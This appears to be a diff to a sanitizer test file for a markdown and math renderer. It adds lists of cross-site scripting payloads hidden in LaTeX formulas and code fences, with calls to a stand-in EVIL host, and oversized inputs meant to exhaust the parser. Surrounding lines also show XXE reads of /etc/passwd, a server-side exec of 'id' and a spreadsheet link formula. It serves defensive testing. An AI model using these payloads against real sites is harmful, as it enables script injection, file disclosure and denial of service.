@@ -66,7 +66,29 @@ CONFUSIONS = [
     f"]]>{EVIL}<![CDATA[ <!ENTITY x SYSTEM 'file:///etc/passwd'> <?php echo 1 ?> <!--#exec cmd='id'-->",
     f'=HYPERLINK("http://{EVIL}","x")',
 ]
-EVERY = SCRIPTS + LOADS + MOVES + CONFUSIONS
+FORMULAS = [
+    f"$\\text{{<img src=//{EVIL}/p.png onerror=alert(1)>}}$ and $x<script>alert('{EVIL}')</script>$",
+    f"\\(\\text{{&lt;img src=//{EVIL}/p.png onerror=alert(1)&gt; &#x3C;script&#x3E;alert('{EVIL}')}}\\)",
+    f"$\\href{{javascript:alert('{EVIL}')}}{{x}}$ \\[\\url{{javascript:alert('{EVIL}')}}\\]",
+    f"$\\includegraphics{{//{EVIL}/p.png}}$",
+    f"$$\\style{{position:fixed;inset:0;background:url(//{EVIL}/b.png)}}{{x}}$$",
+    f"$$\\class{{visually-hidden}}{{x}} \\cssId{{{EVIL}}}{{x}}$$",
+    f"\\[\\text{{</mtext></math><script>alert('{EVIL}')</script>}}\\]",
+    f"$\\text{{<mglyph><style><img src=x onerror=alert('{EVIL}')></style></mglyph>}}$",
+    f'$\\color{{{EVIL}" onload="}}{{x}}$',
+    f'$\\unicode{{x202e}} \\hspace{{99999em}} \\text{{\u202e{EVIL}}} \\char"202E$',
+    f"<span data-math-style=inline>\\href{{//{EVIL}}}{{x}}</span> $`<b>{EVIL}</b>`$",
+    f"<math href=//{EVIL}/><maction actiontype=statusline xlink:href=javascript:alert('{EVIL}')>x</maction></math>",
+]
+BLOCKS = [
+    f"```html\n<script src=//{EVIL}/x.js></script><img src=//{EVIL}/p.png onerror=alert(1)>\n```",
+    f"```javascript\n'</code></pre><script>alert(\"{EVIL}\")</script>' // </span>\n```",
+    f"~~~php\n<?php echo '</span></code></pre><iframe src=//{EVIL}>'; ?>&lt;b&gt;\n~~~",
+    f"```python\" onmouseover=\"alert('{EVIL}')\nx = '\u202e{EVIL}'\n```",
+    f"```css\n}}</style><style>@import url(//{EVIL}/x.css);\n```",
+    f"```sql\nSELECT '<a href=javascript:alert(1) onclick=alert(1)>{EVIL}</a>' --\x01\n```",
+]
+EVERY = SCRIPTS + LOADS + MOVES + CONFUSIONS + FORMULAS + BLOCKS
 ALL_AT_ONCE = "\n\n".join(EVERY)
 
 MEGABYTE = 1_000_000
@@ -93,4 +115,34 @@ BOMBS = {
     "rules": "---\n" * 25_000,
     "line ends": "\n" * 100_000,
     "carriage returns": "\r" * 100_000 + "x",
+    "25,000 formulas": "$x$ " * 25_000,
+    "formulas between both kinds of signs": "$ " + "\\(a\\)" * 19_000,
+    "formulas in each other": "$" + "\\frac{" * 160 + "x" + "}" * 30 + "$ ",
+    "a formula of brackets": ("$" + "(" * 990 + "$ ") * 90,
+    "a formula of roots": ("$" + "\\sqrt" * 190 + " x$ ") * 90,
+    "formulas that never close": "\\[\n" * 30_000,
+    "displays that never close": "$$\nx\n" * 15_000,
+    "prices without end": "$" + "5 " * 49_000 + "$",
+    "digits without end": "$" + "5" * 99_000 + "$",
+    "matrices of empty cells": ("$\\begin{matrix}" + "&" * 900 + "\\end{matrix}$ ") * 90,
+    "fences that never close": "```\n~~~\n" * 11_000,
+    "small blocks of code": "```js\nx\n```\n" * 7_000,
+    **{
+        f"{language} of {bait!r}": f"```{language}\n{bait * (9_900 // len(bait))}\n```"
+        for language, bait in (
+            ("java", "\n"),
+            ("cpp", "\r"),
+            ("csharp", "a\n b"),
+            ("scala", ","),
+            ("julia", "(*"),
+            ("ts", "a."),
+            ("php", "$"),
+            ("diff", "-- "),
+            ("yaml", "@@"),
+            ("ruby", "q{"),
+            ("powershell", "{-"),
+            ("python", 'f"{'),
+            ("c", "{"),
+        )
+    },
 }
